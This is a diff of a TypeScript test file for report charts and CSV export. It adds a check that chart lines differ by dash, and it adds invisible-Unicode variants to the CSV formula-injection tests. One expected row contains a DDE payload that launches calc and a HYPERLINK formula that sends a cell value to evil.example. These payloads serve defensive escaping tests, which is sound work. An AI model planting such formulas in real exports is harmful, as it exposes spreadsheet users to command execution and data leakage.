@@ -2,7 +2,7 @@
  * loadFormat: the report's load values keep their usual digits (whole from 10 up, else 3 significant), and get
  * as many more as keep different values apart.
  */
-import { percentileCurves, p99PerChip, renderSvg } from '../../../../services/reports/charts.ts';
+import { percentileCurves, p99PerChip, renderSvg, rollingR, scatterWithLines } from '../../../../services/reports/charts.ts';
 import { describe, expect, it } from 'vitest';
 import type { LoadLatencyReport } from '../../../../services/reports/load-latency.ts';
 import { loadFormat, mdCell, reportHtml, reportSummary, withEmptyNote } from '../../../../services/reports/report-render.ts';
@@ -130,6 +130,10 @@ describe('charts: the SLO labelled, thin buckets hollow in the per-chip p99 (two
     expect(perChip).toMatch(/^<svg role="img" aria-label="Small line charts, one per chip \(c, d\), of each model's p99 latency/);
     // The data marks carry no ARIA of their own (the image's name says what they show).
     expect([fleet, perChip].map((svg) => (svg.match(/role="graphics-symbol"[^>]*aria-label="[^"]*ms: /g) ?? []).length)).toEqual([0, 0]);
+    // Lines told apart by dash as well as colour (a re-test: the rolling r's and the least-squares lines by colour alone).
+    const r = rollingR([{ edge_server_id: 'e1', model_id: 'm', window_end: '2024-06-01 10:00:00.000', pearson_r: 0.5, ci_low: 0.4, ci_high: 0.6 }] as never, 'cpu_util') as unknown as { layer: { encoding: { strokeDash?: { field: string } } }[] };
+    const lines = scatterWithLines([], [{ chip: 'c', load_min: 0, load_max: 1, latency_at_load_min_ms: 1, slope_ms_per_unit: 1 }] as never, 'cpu_util') as unknown as { layer: { encoding: { strokeDash?: { field: string } } }[] };
+    expect([r.layer[1]!.encoding.strokeDash?.field, lines.layer[1]!.encoding.strokeDash?.field]).toEqual(['key', 'chip']);
   });
 });
 
@@ -165,7 +169,7 @@ describe('reportCsv', () => {
     expect(rows[0]).toBe(`load_sensitive_servers,'+chip,'=2+5*cmd|' /C calc'!A0,"'=HYPERLINK(""http://evil.example/?x=""&A1,""edge-07"")",,,n,600`);
     expect(rows[1]).toMatch(/,pearson_r,-0\.5$/);
     expect(rows[2]).toMatch(/,slope_ms_per_unit,-1\.25$/);
-    for (const id of ['@srv', '-srv', '\tsrv', ' =HYPERLINK("x")', '\u00a0=1+1', '\ufeff=1+1', '\uff1d1+1', '\n=1+1', '\u200b=4+4', '\u2060\u200e+1', 'edge-01', 'a=b', '\u200bedge']) {
+    for (const id of ['@srv', '-srv', '\tsrv', ' =HYPERLINK("x")', '\u00a0=1+1', '\ufeff=1+1', '\uff1d1+1', '\n=1+1', '\u200b=4+4', '\u2060\u200e+1', '\u034f=1', '\ufe0f=1', '\u180b=1', '\u3164=1', '\u0000=1', 'edge-01', 'a=b', '\u200bedge']) {
       const csv = reportCsv({ ...report, sensitive: [{ ...(report as { sensitive: object[] }).sensitive[0], edge_server_id: id }] } as never);
       const line = csv.split('\n').findIndex((l) => l.startsWith('load_sensitive_servers'));
       // The id's cell: quoted when it holds a quote, a comma or a line break.
